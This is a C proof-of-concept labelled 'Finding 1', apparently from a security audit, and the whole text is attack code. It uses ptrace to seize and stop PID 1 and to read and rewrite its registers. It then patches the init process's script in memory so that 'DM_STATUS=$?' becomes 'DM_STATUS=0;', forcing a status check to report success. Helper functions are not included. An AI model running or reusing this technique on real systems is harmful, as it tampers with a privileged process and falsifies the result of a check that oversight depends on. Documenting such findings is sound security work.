/* Finding 1, ptrace: seize PID 1, stop it, read and rewrite its registers, patch its
 * not-yet-parsed script (`DM_STATUS=$?` → `DM_STATUS=0;`) word by word, let it go, exit 3. */
#include <elf.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

static const char want[] = "DM_STATUS=$?";
static const char repl[] = "DM_STATUS=0;";

/* Patches every copy of `want` in [lo, hi) of the stopped tracee through PEEK/POKEDATA. */
static int patch_range(unsigned long lo, unsigned long hi) {
    size_t len = hi - lo, words = len / sizeof(long);
    long *buf = malloc(len);
    if (!buf) return 0;
    for (size_t w = 0; w < words; w++) {
        errno = 0;
        buf[w] = ptrace(PTRACE_PEEKDATA, 1, (void *)(lo + w * sizeof(long)), 0);
        if (errno) { free(buf); return 0; }
    }
    int patched = 0;
    char *bytes = (char *)buf;
    for (size_t k = 0; k + sizeof want - 1 <= len; k++) {
        if (memcmp(bytes + k, want, sizeof want - 1) != 0) continue;
        memcpy(bytes + k, repl, sizeof repl - 1);
        for (size_t w = k / sizeof(long); w <= (k + sizeof want - 2) / sizeof(long); w++) {
            char what[96];
            snprintf(what, sizeof what, "ptrace(PTRACE_POKEDATA, 1, %lx)", lo + w * sizeof(long));
            if (result(what, ptrace(PTRACE_POKEDATA, 1, (void *)(lo + w * sizeof(long)), (void *)buf[w])) == 0)
                patched++;
        }
    }
    free(buf);
    return patched;
}

int main(void) {
    struct range r[256];
    int n = maps_of_pid1(r, 256);
    if (result("ptrace(PTRACE_SEIZE, 1)", ptrace(PTRACE_SEIZE, 1, 0, 0)) == 0) {
        result("ptrace(PTRACE_INTERRUPT, 1)", ptrace(PTRACE_INTERRUPT, 1, 0, 0));
        int st = 0;
        result("waitpid(1, __WALL) for the stop", waitpid(1, &st, __WALL));
        struct user_regs_struct regs;
        struct iovec iov = {&regs, sizeof regs};
#ifdef __x86_64__
        if (result("ptrace(PTRACE_GETREGS, 1)", ptrace(PTRACE_GETREGS, 1, 0, &regs)) == 0)
            say("RESULT pid1-rip = ok %llx\n", (unsigned long long)regs.rip);
#endif
        /* Written back unchanged: proves they could be changed. */
        if (result("ptrace(PTRACE_GETREGSET, 1, NT_PRSTATUS)", ptrace(PTRACE_GETREGSET, 1, NT_PRSTATUS, &iov)) == 0)
            result("ptrace(PTRACE_SETREGSET, 1, NT_PRSTATUS)", ptrace(PTRACE_SETREGSET, 1, NT_PRSTATUS, &iov));
        int patched = 0;
        for (int i = 0; i < n; i++)
            if (r[i].perms[0] == 'r' && r[i].perms[1] == 'w' && r[i].hi - r[i].lo <= (8u << 20))
                patched += patch_range(r[i].lo, r[i].hi);
        say("RESULT script-patched-by-ptrace = %s %d\n", patched ? "ok" : "fail errno=0", patched);
        result("ptrace(PTRACE_DETACH, 1)", ptrace(PTRACE_DETACH, 1, 0, 0));
    }
    return 3;
}
